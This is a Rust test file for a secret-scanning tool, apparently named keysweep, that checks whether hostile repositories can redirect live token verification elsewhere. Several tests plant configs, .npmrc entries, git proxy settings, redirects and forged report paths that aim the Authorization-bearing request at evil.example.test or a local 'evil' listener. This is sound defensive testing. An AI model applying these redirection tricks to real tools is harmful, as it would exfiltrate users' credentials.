//! Tests that a hostile repository can't make keysweep send any byte of a secret elsewhere: a listener on this machine
//! receives nothing.

use std::fs;
use std::path::Path;

use crate::sandbox::{Sandbox, secret};
use crate::server::{Answer, Server};

fn npm(seed: u64) -> String {
    format!("NPM_TOKEN={}\n", secret("npm-token", seed))
}

#[test]
fn repository_content_cannot_choose_a_host() {
    let (evil, good) = (Server::silent(), Server::new(|_| Answer::json(200, r#"{"username":"acme"}"#)));
    let sandbox = Sandbox::new();
    let address = evil.address();
    let host = format!("127.0.0.1:{}", evil.port);
    let config = format!(
        "[live_hosts]\n\"registry.npmjs.org\" = \"{address}\"\n\"gitlab.com\" = \"{address}\"\n\n\
         [[live]]\nid = \"npm-token\"\nurl = \"https://evil.example.test/x\"\nheaders = {{ Authorization = \"{{secret}}\" }}\n\
         live = [\"200 json\"]\nreferences = [\"https://evil.example.test/docs\"]\n"
    );
    fs::write(sandbox.repo().join(".keysweep.toml"), config).unwrap();
    fs::write(
        sandbox.repo().join(".npmrc"),
        format!("registry={address}\n//{host}/:_authToken={}\n", secret("npm-token", 1)),
    )
    .unwrap();
    let near =
        format!("{}GITLAB_HOST={host}\nGITLAB_URL={address}\nGITLAB_TOKEN={}\n", npm(1), secret("gitlab-pat", 1));
    sandbox.commit("app.env", &near);
    for (name, value) in
        [("http.proxy", &*address), ("https.proxy", &address), ("http.https://registry.npmjs.org.proxy", &address)]
    {
        sandbox.git(&["config", name, value]);
    }
    sandbox.hosts(&[("registry.npmjs.org", good.address()), ("gitlab.com", good.address())]);
    assert!(!sandbox.swept().is_empty());
    let run = sandbox.keysweep(&["live", "--all", "--yes"]);
    assert!(evil.asked().is_empty(), "{}", run.text());
    assert!(good.asked().len() >= 2, "{}", run.text());
    // If the user has no configuration, the hosts are those of the rules.
    let plan = sandbox.keysweep_with(&["live", "--all", "--dry-run"], &[]);
    assert!(plan.text().contains("https://registry.npmjs.org/-/whoami"), "{}", plan.text());
    assert!(plan.text().contains("https://gitlab.com/api/v4/"), "{}", plan.text());
    assert!(!plan.text().contains(&host) && !plan.text().contains("evil.example.test"), "{}", plan.text());
}

/// Asks with a configuration that must be refused before anything is sent.
#[track_caller]
fn refused(sandbox: &Sandbox, folder: &Path, config: &Path, evil: &Server) {
    for named_by in ["variable", "option"] {
        let mut keysweep = sandbox.sealed(env!("CARGO_BIN_EXE_keysweep"));
        keysweep.current_dir(folder).args(["live", "--all", "--yes"]);
        let run = match named_by {
            "option" => keysweep.arg("--config").arg(config),
            _ => keysweep.env("KEYSWEEP_CONFIG", config),
        };
        let run = run.output().unwrap();
        let said = String::from_utf8_lossy(&run.stderr);
        assert_eq!(run.status.code(), Some(2), "{}: {said}", config.display());
        assert!(said.contains("is in the repository"), "{}: {said}", config.display());
        assert!(evil.asked().is_empty(), "{}: {said}", config.display());
    }
}

#[test]
fn a_configuration_that_the_repository_holds_is_refused() {
    let evil = Server::silent();
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(2));
    let text = format!("[live_hosts]\n\"registry.npmjs.org\" = \"{}\"\n", evil.address());
    sandbox.commit("ci.toml", &text);
    sandbox.git(&["worktree", "add", "-q", "../linked"]);
    sandbox.swept();
    let linked = sandbox.home().parent().unwrap().join("linked");
    let (main, repo) = (sandbox.repo().join("ci.toml"), sandbox.repo());
    fs::write(repo.join(".git/ci.toml"), &text).unwrap();
    for (folder, config) in [
        (&repo, &main),
        (&repo, &repo.join(".git/ci.toml")),
        (&repo, &linked.join("ci.toml")),
        (&linked, &main),
        (&linked, &Path::new("../repo/ci.toml").to_path_buf()),
    ] {
        refused(&sandbox, folder, config, &evil);
    }
    // A link, or a folder that is a link, leads into the repository, or out of it to a place that its authors choose.
    #[cfg(unix)]
    {
        use std::os::unix::fs::symlink;
        let (outside, inside, folder) = (sandbox.home().join("link.toml"), repo.join("link.toml"), repo.join("folder"));
        symlink(&main, &outside).unwrap();
        sandbox.hosts(&[("registry.npmjs.org", evil.address())]);
        symlink(sandbox.own_config(), &inside).unwrap();
        symlink(sandbox.home(), &folder).unwrap();
        for config in [outside, inside, folder.join("keysweep.toml")] {
            refused(&sandbox, &repo, &config, &evil);
        }
    }
}

#[test]
fn a_configuration_in_the_repository_around_a_submodule_is_refused() {
    let evil = Server::silent();
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(8));
    let whole = sandbox.home().parent().unwrap().join("whole");
    sandbox.git(&["init", "-q", whole.to_str().unwrap()]);
    let at = |args: &[&str]| {
        sandbox.git(&[&["-C", whole.to_str().unwrap(), "-c", "protocol.file.allow=always"], args].concat());
    };
    at(&["submodule", "--quiet", "add", sandbox.repo().to_str().unwrap(), "part"]);
    let config = whole.join("ci.toml");
    fs::write(&config, format!("[live_hosts]\n\"registry.npmjs.org\" = \"{}\"\n", evil.address())).unwrap();
    let part = whole.join("part");
    let swept = sandbox.sealed(env!("CARGO_BIN_EXE_keysweep")).current_dir(&part).arg("history").output().unwrap();
    assert_eq!(swept.status.code(), Some(1));
    refused(&sandbox, &part, &config, &evil);
    // So is one in another work tree of the repository around, which may be anywhere.
    at(&["add", "--all"]);
    at(&["-c", "user.name=Test", "-c", "user.email=test@example.com", "commit", "-q", "-m", "part and configuration"]);
    at(&["worktree", "add", "-q", "../other/whole"]);
    let linked = whole.parent().unwrap().join("other/whole/ci.toml");
    assert!(linked.is_file());
    refused(&sandbox, &part, &linked, &evil);
}

/// A configuration in a home folder that is a git repository still counts as the user's own.
#[test]
fn a_configuration_of_a_home_folder_in_git_is_ones_own() {
    let server = Server::new(|_| Answer::json(401, "{}"));
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(9));
    sandbox.git(&["init", "-q", sandbox.home().parent().unwrap().to_str().unwrap()]);
    let own = sandbox.home().join(".config/keysweep");
    fs::create_dir_all(&own).unwrap();
    let text = format!("[live_hosts]\n\"registry.npmjs.org\" = \"{}\"\n", server.address());
    fs::write(own.join("config.toml"), text).unwrap();
    sandbox.swept();
    let run = sandbox.keysweep_with(&["live", "--all", "--yes"], &[]);
    assert_eq!((run.code(), server.asked().len()), (Some(0), 1), "{}", run.text());
}

#[test]
fn a_redirect_is_not_followed() {
    let evil = Server::silent();
    let location = format!("{}/x", evil.address());
    for status in [301, 302, 303, 307, 308] {
        let location = location.clone();
        let good = Server::new(move |_| Answer::Http(status, vec![("location", location.clone())], String::new()));
        let sandbox = Sandbox::new();
        sandbox.commit("app.env", &npm(3));
        sandbox.hosts(&[("registry.npmjs.org", good.address())]);
        sandbox.swept();
        let run = sandbox.keysweep(&["live", "--all", "--yes", "--format", "json"]);
        assert_eq!(run.json()["asked"][0]["word"], "unknown", "{status}: {}", run.text());
        assert_eq!((good.asked().len(), evil.asked().len()), (1, 0), "{status}");
    }
}

#[test]
fn plain_http_to_this_machine_goes_through_no_proxy() {
    let (evil, good) = (Server::silent(), Server::new(|_| Answer::json(200, r#"{"username":"acme"}"#)));
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(4));
    sandbox.hosts(&[("registry.npmjs.org", good.address())]);
    sandbox.swept();
    let (own, proxy) = (sandbox.own_config(), evil.address());
    let proxy = proxy.as_ref();
    let variables = [
        ("KEYSWEEP_CONFIG", &*own),
        ("HTTPS_PROXY", proxy),
        ("HTTP_PROXY", proxy),
        ("ALL_PROXY", proxy),
        ("http_proxy", proxy),
    ];
    let run = sandbox.keysweep_with(&["live", "--all", "--yes"], &variables);
    assert_eq!((good.asked().len(), evil.asked().len()), (1, 0), "{}", run.text());
}

#[test]
fn proxied_requests_are_encrypted_for_the_provider() {
    let proxy = Server::new(|_| Answer::Closed);
    let sandbox = Sandbox::new();
    sandbox.commit("app.env", &npm(5));
    sandbox.swept();
    let run = sandbox.keysweep_with(&["live", "--all", "--yes"], &[("HTTPS_PROXY", proxy.address().as_ref())]);
    let asked = proxy.asked();
    assert_eq!(asked.len(), 1, "{}", run.text());
    assert!(asked[0].line.starts_with("CONNECT registry.npmjs.org:443 "), "{}", asked[0].line);
    let all = format!("{}{}{}", asked[0].line, asked[0].headers, asked[0].body);
    assert!(!all.contains(&secret("npm-token", 5)[4..]), "{all}");
}

#[test]
fn a_forged_report_opens_no_outside_file() {
    let server = Server::silent();
    let sandbox = Sandbox::new();
    sandbox.commit("README", "x\n");
    fs::write(sandbox.repo().join("app.env"), npm(6)).unwrap();
    sandbox.keysweep_with(&["files", "."], &[]);
    fs::rename(sandbox.repo().join("app.env"), sandbox.home().join("app.env")).unwrap();
    let path = sandbox.repo().join(".git/keysweep/last-files.json");
    let report = fs::read_to_string(&path).unwrap();
    let elsewhere = sandbox.home().join("app.env");
    for forged in ["../home/app.env", elsewhere.to_str().unwrap(), "link.env"] {
        fs::write(&path, report.replace("\"path\":\"app.env\"", &format!("\"path\":\"{forged}\""))).unwrap();
        #[cfg(unix)]
        if forged == "link.env" {
            std::os::unix::fs::symlink(&elsewhere, sandbox.repo().join(forged)).unwrap();
        }
        sandbox.hosts(&[("registry.npmjs.org", server.address())]);
        let run = sandbox.keysweep(&["live", "--all", "--yes"]);
        assert!(server.asked().is_empty(), "{forged}: {}", run.text());
    }
}

/// No command except one opens a socket, and that one only after the user has agreed.
#[cfg(target_os = "linux")]
#[test]
fn no_socket_is_opened_without_consent() {
    let server = Server::silent();
    let sandbox = Sandbox::new();
    // A container may forbid tracing, even of one's own child processes.
    let tried = sandbox.sealed("strace").args(["-qq", "-e", "trace=none", "true"]).output();
    if !tried.is_ok_and(|output| output.status.success()) {
        eprintln!("NOT TESTED: strace cannot trace here, so whether a socket is opened without consent was not seen");
        return;
    }
    sandbox.commit("app.env", &npm(7));
    sandbox.hosts(&[("registry.npmjs.org", server.address())]);
    let sockets = |args: &[&str]| {
        let log = sandbox.home().join("trace");
        let mut strace = sandbox.sealed("strace");
        strace.args(["-f", "-qq", "-e", "trace=socket,connect,sendto", "-o"]).arg(&log);
        strace.arg(env!("CARGO_BIN_EXE_keysweep")).args(args).env("KEYSWEEP_CONFIG", sandbox.own_config());
        strace.output().unwrap_or_else(|why| panic!("strace has to be on PATH: {why}"));
        fs::read_to_string(log).unwrap()
    };
    let commands: [&[&str]; 8] = [
        &["history"],
        &["staged"],
        &["files", "."],
        &["range", "HEAD^!"],
        &["explain", "npm-token"],
        &["verify", "--finding", "aaaaaaaaaa"],
        &["live", "--all", "--dry-run"],
        &["live", "--all"],
    ];
    for command in commands {
        let seen = sockets(command);
        assert!(!seen.contains("socket("), "{command:?}: {seen}");
    }
    assert!(sockets(&["live", "--all", "--yes"]).contains("socket("), "the trace sees nothing");
}
